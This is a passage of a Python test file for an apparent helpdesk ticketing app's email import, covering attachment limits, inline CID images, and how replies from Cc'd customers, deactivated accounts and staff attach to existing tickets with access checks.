    monkeypatch.setenv('PULSE_MAX_UPLOAD_FILES', '2')
    reset_settings()
    await box.deliver(mail(subject='One big file', attachments=[('big.bin', 'application/octet-stream', b'x' * 3000)]),
                      mail(subject='Three files', sender='Eva <eva@acme.demo>',
                           attachments=[(f'{i}.txt', 'text/plain', b'x') for i in range(3)]),
                      mail(subject='Two small files', sender='Carl <carl@acme.demo>',
                           attachments=[(f'{i}.txt', 'text/plain', b'x' * 1500) for i in range(2)]))
    await box.import_now()
    assert [t.title for t in await email_tickets()] == ['Two small files']  # within both limits
    outcomes = {r.subject: (r.outcome, r.detail) for r in await imported(box.id)}
    assert outcomes['One big file'][0] == 'failed' and 'big.bin' in outcomes['One big file'][1]
    assert outcomes['Three files'][0] == 'failed' and 'at most 2 per message' in outcomes['Three files'][1]
    rows = await intake_queries.failed_imports(people.users['admin@pulse.demo'])
    assert sorted(r.subject for r in rows) == ['One big file', 'Three files']


async def test_an_inline_cid_image_is_stored_as_an_attachment_of_the_ticket(people, box):
    """An HTML mail with a picture in its text (``<img src="cid:…">``, the image a related part): the picture is a
    file of the ticket that the customer sees too; the text is the plain alternative."""
    message = EmailMessage()
    message['From'], message['To'], message['Subject'] = 'Carl <carl@acme.demo>', 'support@pulse.demo', 'Inline'
    message['Message-ID'] = '<inline@acme.demo>'
    message.set_content('See the picture.')
    message.add_alternative('<p>See <img src="cid:pic1@acme.demo"> the picture.</p>', subtype='html')
    png = b'\x89PNG\r\n\x1a\n' + b'1' * 50
    message.get_payload()[1].add_related(png, maintype='image', subtype='png', cid='<pic1@acme.demo>')
    await box.deliver(message.as_bytes())
    await box.import_now()
    [ticket] = await email_tickets()
    assert 'See the picture.' in ticket.description
    async with db.session() as s:
        files = [(a.content_type, a.size, a.is_internal) for a in (await s.execute(
            select(Attachment).where(Attachment.ticket_id == ticket.id, Attachment.content_type != 'message/rfc822')
        )).scalars()]
    assert files == [('image/png', len(png), False)]


async def _team(ticket_id: int) -> set[int]:
    async with db.session() as s:
        return set((await s.execute(select(TeamMember.user_id).where(TeamMember.ticket_id == ticket_id))).scalars())


async def test_a_reply_from_someone_on_cc_with_an_account_attaches_never_a_new_ticket(people, box):
    """Tom (a customer of Globex) was on Cc of Carl's mail (ACME) and answers it: that opened a Globex ticket for him.
    The customer's Cc is the consent: his reply attaches to Carl's ticket. As the team can take him (the rule of
    auth.can_view_ticket), he joins it and the reply is his; where it cannot (a customer of another organisation
    may not see the ticket), his mail is kept on the ticket for staff, as an internal note, and he gets no access."""
    from pulse_live import auth
    carl, tom = people.users['carl@acme.demo'], people.users['tom@globex.demo']
    await box.deliver(mail(subject='Shared issue', message_id='<shared@acme.demo>',
                           headers={'Cc': 'Tom Baker <tom@globex.demo>'}))
    await box.import_now()
    [ticket] = await email_tickets()
    await box.deliver(mail(sender='Tom Baker <tom@globex.demo>', subject='Re: Shared issue', body='Same for us.',
                           headers={'In-Reply-To': '<shared@acme.demo>'}))
    await box.import_now()
    assert [t.id for t in await email_tickets()] == [ticket.id]  # never a new ticket
    assert [r.outcome for r in await imported(box.id)] == ['ticket', 'reply']
    last = (await entries(ticket.id))[-1]
    stored = await load_ticket(ticket.id)
    assert stored.customer_id == carl.id  # the customer stays
    if auth.can_view_ticket(tom, stored, on_team=True):
        assert tom.id in await _team(ticket.id)
        assert last.actor_id == tom.id and last.body == 'Same for us.' and not last.is_internal
    else:
        assert tom.id not in await _team(ticket.id)
        assert last.is_internal and last.actor_id != tom.id
        assert 'tom@globex.demo' in last.body and 'Same for us.' in last.body


async def test_a_reply_from_a_colleague_on_cc_who_left_the_team_attaches_and_joins_again(people, box):
    from pulse_live.services import team
    anna, eva = people.users['anna@pulse.demo'], people.users['eva@acme.demo']
    await box.deliver(mail(subject='Drive', message_id='<drive@acme.demo>', headers={'Cc': 'eva@acme.demo'}))
    await box.import_now()
    [ticket] = await email_tickets()
    async with db.session() as s:
        member = (await s.execute(select(TeamMember.id).where(TeamMember.ticket_id == ticket.id,
                                                              TeamMember.user_id == eva.id))).scalar_one()
    await team.remove_member(actor=anna, ticket_id=ticket.id, member_id=member)
    await box.deliver(mail(sender='Eva <eva@acme.demo>', subject='Re: Drive', body='Me too.',
                           headers={'In-Reply-To': '<drive@acme.demo>'}))
    await box.import_now()
    assert [t.id for t in await email_tickets()] == [ticket.id]
    assert eva.id in await _team(ticket.id)
    last = (await entries(ticket.id))[-1]
    assert last.actor_id == eva.id and last.body == 'Me too.' and not last.is_internal


async def test_a_deactivated_account_on_cc_is_never_enabled_by_its_reply(people, box):
    from pulse_live.models import User as UserRow
    eva = people.users['eva@acme.demo']
    await box.deliver(mail(subject='Badge', message_id='<badge@acme.demo>', headers={'Cc': 'eva@acme.demo'}))
    await box.import_now()
    [ticket] = await email_tickets()
    from sqlalchemy import delete
    async with db.session() as s, s.begin():
        (await s.get(UserRow, eva.id)).is_active = False
        await s.execute(delete(TeamMember).where(TeamMember.ticket_id == ticket.id, TeamMember.user_id == eva.id))
    await box.deliver(mail(sender='Eva <eva@acme.demo>', subject='Re: Badge', body='Still mine?',
                           headers={'In-Reply-To': '<badge@acme.demo>'}))
    await box.import_now()
    assert [t.id for t in await email_tickets()] == [ticket.id]
    async with db.session() as s:
        assert (await s.get(UserRow, eva.id)).is_active is False
    assert eva.id not in await _team(ticket.id)
    last = (await entries(ticket.id))[-1]
    assert last.is_internal and last.actor_id != eva.id and 'Still mine?' in last.body


async def test_staff_on_cc_reply_as_staff(people, box):
    anna = people.users['anna@pulse.demo']
    await box.deliver(mail(subject='Loop in Anna', message_id='<anna@acme.demo>', headers={'Cc': anna.email}))
    await box.import_now()
    [ticket] = await email_tickets()
    await box.deliver(mail(sender=f'Anna <{anna.email}>', subject='Re: Loop in Anna', body='On it.',
                           headers={'In-Reply-To': '<anna@acme.demo>'}))
    await box.import_now()
    last = (await entries(ticket.id))[-1]
    assert (last.actor_id, last.body, last.is_internal) == (anna.id, 'On it.', False)
    async with db.session() as s:
        assert (await s.get(User, anna.id)).role != 'customer'
